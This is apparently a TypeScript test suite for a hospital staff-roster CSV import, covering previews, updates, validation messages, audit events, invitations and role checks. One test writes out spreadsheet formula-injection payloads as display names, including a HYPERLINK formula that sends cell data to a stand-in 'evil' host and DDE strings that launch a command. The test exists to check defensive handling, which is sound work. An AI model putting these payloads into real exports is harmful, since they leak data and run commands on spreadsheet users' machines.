import request from 'supertest'
import { afterEach, describe, expect, it } from 'vitest'
import { RosterApplyResultSchema, RosterPreviewSchema } from '#shared/schemas/roster'
import { UserModel } from '../../../server/models/index.ts'
import { makeCaller, makeTestApp, makeUser } from '../helpers.ts'
import { accountsSnapshot, auditActions, fixture, hospitalWithMail, upload } from './roster-helpers.ts'

const cleanups: (() => unknown)[] = []

afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup()
})

const GOOD_EMAILS = [
  'priya.raman@saltmarsh.test',
  'oluwaseun.adebayo@saltmarsh.test',
  'hannah.kowalczyk@saltmarsh.test',
  'marta.lindgren@saltmarsh.test',
]

describe('roster import: a good roster', () => {
  it('previews every row as new, with line numbers, and writes nothing', async () => {
    const { app, admin } = await hospitalWithMail(cleanups)
    const before = await accountsSnapshot()

    const res = await upload(app, admin.auth, 'preview', fixture('good.csv'))

    expect(res.status).toBe(200)
    const preview = RosterPreviewSchema.parse(res.body)
    expect(preview.counts).toEqual({ new: 4, changed: 0, unchanged: 0, invalid: 0 })
    expect(preview.rows.map((r) => [r.line, r.email, r.status])).toEqual(GOOD_EMAILS.map((e, i) => [i + 2, e, 'new']))
    expect(preview.rows[1]).toMatchObject({ roles: ['attending', 'educator'], teams: ['Acute Medical Unit', 'Medical ICU'] })
    expect(preview.rows[2]).toMatchObject({ roles: ['resident'], teams: ['Medical ICU'] })
    expect(await accountsSnapshot()).toEqual(before)
  })

  it('applies: creates the accounts without passwords in their teams, audits them and e-mails each an invitation', async () => {
    const { app, admin, fake, mailer } = await hospitalWithMail(cleanups)

    const res = await upload(app, admin.auth, 'apply', fixture('good.csv'))
    await mailer.idle()

    expect(res.status).toBe(200)
    const result = RosterApplyResultSchema.parse(res.body)
    expect(result).toMatchObject({ created: 4, updated: 0, skipped: 0 })
    const accounts = await accountsSnapshot()
    expect(accounts.find((a) => a.email === 'oluwaseun.adebayo@saltmarsh.test')).toEqual({
      email: 'oluwaseun.adebayo@saltmarsh.test',
      displayName: 'Dr Oluwaseun Adebayo',
      roles: ['attending', 'educator'],
      active: true,
      hasPassword: false,
      teams: ['Acute Medical Unit', 'Medical ICU'],
    })
    expect(accounts.find((a) => a.email === 'marta.lindgren@saltmarsh.test')).toMatchObject({ roles: ['educator'], teams: [] })
    expect(fake.messages().map((m) => m.to[0]).sort()).toEqual([...GOOD_EMAILS].sort())
    const priya = fake.messages().find((m) => m.to[0] === 'priya.raman@saltmarsh.test')!
    expect(priya.subject).toContain('Rhian Admin')
    expect(priya.text).toContain('https://plumbline.saltmarsh.test/invitation#token=')
    const actions = await auditActions()
    expect(actions.filter((a) => a.action === 'account-invited').map((a) => a.changes!.email).sort()).toEqual([...GOOD_EMAILS].sort())
    expect(actions.filter((a) => a.action === 'invitation-sent')).toHaveLength(4)
    expect(actions.filter((a) => a.action === 'roster-import').map((a) => a.changes)).toEqual([
      { rows: 4, created: 4, updated: 0, unchanged: 0, skipped: 0 },
    ])
  })

  it('a re-import of the same file is all unchanged, writes nothing and sends nothing', async () => {
    const { app, admin, fake, mailer } = await hospitalWithMail(cleanups)
    await upload(app, admin.auth, 'apply', fixture('good.csv'))
    await mailer.idle()
    const accounts = await accountsSnapshot()
    const events = await auditActions()
    const sent = fake.messages().length

    const preview = await upload(app, admin.auth, 'preview', fixture('good.csv'))
    const again = await upload(app, admin.auth, 'apply', fixture('good.csv'))
    await mailer.idle()

    expect(preview.body.counts).toEqual({ new: 0, changed: 0, unchanged: 4, invalid: 0 })
    expect(again.status).toBe(200)
    expect(again.body).toMatchObject({ created: 0, updated: 0, skipped: 0, counts: { unchanged: 4 } })
    expect(await accountsSnapshot()).toEqual(accounts)
    expect(await auditActions()).toEqual(events)
    expect(fake.messages()).toHaveLength(sent)
  })
})

describe('roster import: changes to existing accounts', () => {
  it('matches accounts by e-mail whatever its case, shows what changes, and applies exactly that', async () => {
    const { app, admin, teams } = await hospitalWithMail(cleanups)
    const priya = await makeUser({
      email: 'priya.raman@saltmarsh.test',
      displayName: 'Priya Raman',
      roles: ['resident'],
      teamIds: [teams['Acute Medical Unit']!.id],
      withPassword: false,
    })
    const csv = 'email,display name,roles,team\nPRIYA.RAMAN@saltmarsh.test,Dr Priya Raman,resident|attending,Ward 7 North — Cardiology\n'

    const preview = await upload(app, admin.auth, 'preview', csv)
    const applied = await upload(app, admin.auth, 'apply', csv)

    expect(preview.body.rows[0]).toMatchObject({
      line: 2,
      status: 'changed',
      changes: {
        displayName: { from: 'Priya Raman', to: 'Dr Priya Raman' },
        roles: { from: ['resident'], to: ['resident', 'attending'] },
        teams: { from: ['Acute Medical Unit'], to: ['Ward 7 North — Cardiology'] },
      },
    })
    expect(applied.body).toMatchObject({ created: 0, updated: 1 })
    expect((await accountsSnapshot()).find((a) => a.email === priya.email)).toMatchObject({
      displayName: 'Dr Priya Raman',
      roles: ['resident', 'attending'],
      teams: ['Ward 7 North — Cardiology'],
    })
    const updates = (await auditActions()).filter((a) => a.entityId === priya.id)
    expect(updates).toEqual([
      { action: 'account-roles-changed', entityId: priya.id, changes: { roles: { from: ['resident'], to: ['resident', 'attending'] }, source: 'roster-import' } },
      { action: 'account-renamed', entityId: priya.id, changes: { displayName: { from: 'Priya Raman', to: 'Dr Priya Raman' }, source: 'roster-import' } },
      {
        action: 'account-teams-changed',
        entityId: priya.id,
        changes: {
          teamIds: { from: [teams['Acute Medical Unit']!.id], to: [teams['Ward 7 North — Cardiology']!.id] },
          teams: { from: ['Acute Medical Unit'], to: ['Ward 7 North — Cardiology'] },
          source: 'roster-import',
        },
      },
    ])
  })

  it('never deactivates or touches accounts the file does not name, and sends existing accounts no invitation', async () => {
    const { app, admin, fake, mailer } = await hospitalWithMail(cleanups)
    await makeUser({ email: 'absent@saltmarsh.test', displayName: 'Dr Not In File', roles: ['attending'], withPassword: false })
    await makeUser({ email: 'priya.raman@saltmarsh.test', displayName: 'Old Name', roles: ['resident'], withPassword: false })
    const before = (await accountsSnapshot()).find((a) => a.email === 'absent@saltmarsh.test')

    await upload(app, admin.auth, 'apply', fixture('good.csv'))
    await mailer.idle()

    expect((await accountsSnapshot()).find((a) => a.email === 'absent@saltmarsh.test')).toEqual(before)
    expect(fake.messages().map((m) => m.to[0])).not.toContain('priya.raman@saltmarsh.test')
    expect(fake.messages()).toHaveLength(3)
  })

  it('does not reactivate a deactivated account, and says so', async () => {
    const { app, admin } = await hospitalWithMail(cleanups)
    await makeUser({ email: 'marta.lindgren@saltmarsh.test', displayName: 'Marta Lindgren', roles: ['resident'], active: false, withPassword: false })

    const res = await upload(app, admin.auth, 'apply', fixture('good.csv'))

    const marta = res.body.rows.find((r: { email: string }) => r.email === 'marta.lindgren@saltmarsh.test')
    expect(marta).toMatchObject({ status: 'changed', notes: ['The account is deactivated; the import does not reactivate it.'] })
    expect((await accountsSnapshot()).find((a) => a.email === 'marta.lindgren@saltmarsh.test')).toMatchObject({ active: false, roles: ['educator'] })
  })

  it('refuses the row that would take away the acting admin’s own admin role, and leaves the role in place', async () => {
    const { app, admin } = await hospitalWithMail(cleanups)
    const csv = 'email,display name,roles,team\nADMIN@saltmarsh.test,Rhian Admin,educator,\n'

    const preview = await upload(app, admin.auth, 'preview', csv)
    const applied = await upload(app, admin.auth, 'apply', csv)

    expect(preview.body.rows[0]).toMatchObject({ status: 'invalid', reasons: { roles: 'This is your own account: an import cannot take away your admin role.' } })
    expect(applied.body).toMatchObject({ updated: 0, skipped: 1 })
    expect((await UserModel.findByPk(admin.user.id))!.roles).toEqual(['admin'])
  })
})

describe('roster import: a roster with bad rows', () => {
  it('lists each reason, per field, on its line', async () => {
    const { app, admin } = await hospitalWithMail(cleanups)

    const res = await upload(app, admin.auth, 'preview', fixture('bad-rows.csv'))

    expect(res.status).toBe(200)
    const reasons = Object.fromEntries(res.body.rows.map((r: { line: number; reasons?: unknown }) => [r.line, r.reasons]))
    expect(reasons).toEqual({
      2: { email: '"not-an-email" is not a valid e-mail address.' },
      3: { displayName: 'Missing display name.' },
      4: { roles: 'Unknown role "nurse"; roles are resident, attending, educator, admin.' },
      5: {
        team: 'No team is named "Ward 9 South"; the import does not create teams. Teams are: Acute Medical Unit; Medical ICU; Ward 7 North — Cardiology.',
      },
      6: { email: 'Duplicate e-mail address: also on line 7.' },
      7: { email: 'Duplicate e-mail address: also on line 6.' },
      8: { roles: 'Missing roles: give at least one of resident, attending, educator, admin.' },
      9: undefined,
    })
    expect(res.body.counts).toEqual({ new: 1, changed: 0, unchanged: 0, invalid: 7 })
  })

  it('refuses display names with a tab, a right-to-left override or over 120 characters, and lines with extra values', async () => {
    const { app, admin } = await hospitalWithMail(cleanups)
    const csv = [
      'email,display name,roles,team',
      'a@saltmarsh.test,"Dr A\tTab",resident,',
      'b@saltmarsh.test,Dr \u202eBob,resident,',
      `c@saltmarsh.test,${'C'.repeat(121)},resident,`,
      'd@saltmarsh.test,Dr D,resident,,surplus',
    ].join('\n')

    const res = await upload(app, admin.auth, 'preview', csv)

    expect(res.body.rows.map((r: { reasons?: unknown }) => r.reasons)).toEqual([
      { displayName: 'The display name contains a control character such as a line break or a tab.' },
      { displayName: 'The display name contains a control character such as a line break or a tab.' },
      { displayName: 'The display name is longer than 120 characters.' },
      { row: 'The line has 1 value more than the header names.' },
    ])
  })

  it('apply skips exactly the invalid rows, reports them, and invites only the valid new account', async () => {
    const { app, admin, fake, mailer } = await hospitalWithMail(cleanups)

    const res = await upload(app, admin.auth, 'apply', fixture('bad-rows.csv'))
    await mailer.idle()

    expect(res.status).toBe(200)
    expect(res.body).toMatchObject({ created: 1, updated: 0, skipped: 7 })
    expect(res.body.rows.filter((r: { status: string }) => r.status === 'invalid').map((r: { line: number }) => r.line)).toEqual([2, 3, 4, 5, 6, 7, 8])
    expect((await accountsSnapshot()).map((a) => a.email)).toEqual(['admin@saltmarsh.test', 'fay.quist@saltmarsh.test'])
    expect(fake.messages().map((m) => m.to)).toEqual([['fay.quist@saltmarsh.test']])
    expect((await auditActions()).find((a) => a.action === 'roster-import')!.changes).toEqual({
      rows: 8,
      created: 1,
      updated: 0,
      unchanged: 0,
      skipped: 7,
    })
  })

  it('a file of only invalid rows writes nothing, not even an import event', async () => {
    const { app, admin } = await hospitalWithMail(cleanups)
    const csv = 'email,display name,roles,team\nnope,Dr Nope,resident,\n'

    const res = await upload(app, admin.auth, 'apply', csv)

    expect(res.body).toMatchObject({ created: 0, updated: 0, skipped: 1 })
    expect(await auditActions()).toEqual([])
  })
})

describe('roster import: display names that look like spreadsheet formulas', () => {
  it('are stored and returned as the exact text, never evaluated or altered', async () => {
    const { app, admin } = await hospitalWithMail(cleanups)
    const names = ['=HYPERLINK("http://evil.test/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0"]

    const preview = await upload(app, admin.auth, 'preview', fixture('formula-names.csv'))
    await upload(app, admin.auth, 'apply', fixture('formula-names.csv'))
    const listed = await request(app).get('/api/admin/users').set('Authorization', admin.auth)

    expect(preview.body.rows.map((r: { displayName: string; status: string }) => [r.displayName, r.status])).toEqual(names.map((n) => [n, 'new']))
    const stored = (await accountsSnapshot()).filter((a) => a.email !== 'admin@saltmarsh.test').map((a) => a.displayName)
    expect(stored).toEqual(names)
    expect(listed.body.users.map((u: { displayName: string }) => u.displayName)).toEqual(expect.arrayContaining(names))
  })
})

describe('roster import: who may', () => {
  it('refuses every other role with 403 and writes nothing', async () => {
    const { app } = await makeTestApp()
    for (const role of ['resident', 'attending', 'educator'] as const) {
      const caller = await makeCaller({ roles: [role] })

      const preview = await upload(app, caller.auth, 'preview', fixture('good.csv'))
      const apply = await upload(app, caller.auth, 'apply', fixture('good.csv'))

      expect(preview.status).toBe(403)
      expect(apply.status).toBe(403)
    }
    expect(await UserModel.count({ where: { email: 'priya.raman@saltmarsh.test' } })).toBe(0)
  })

  it('refuses a request without a session with 401', async () => {
    const { app } = await makeTestApp()

    const res = await request(app).post('/api/admin/roster/preview').attach('file', fixture('good.csv'), 'roster.csv')

    expect(res.status).toBe(401)
  })
})
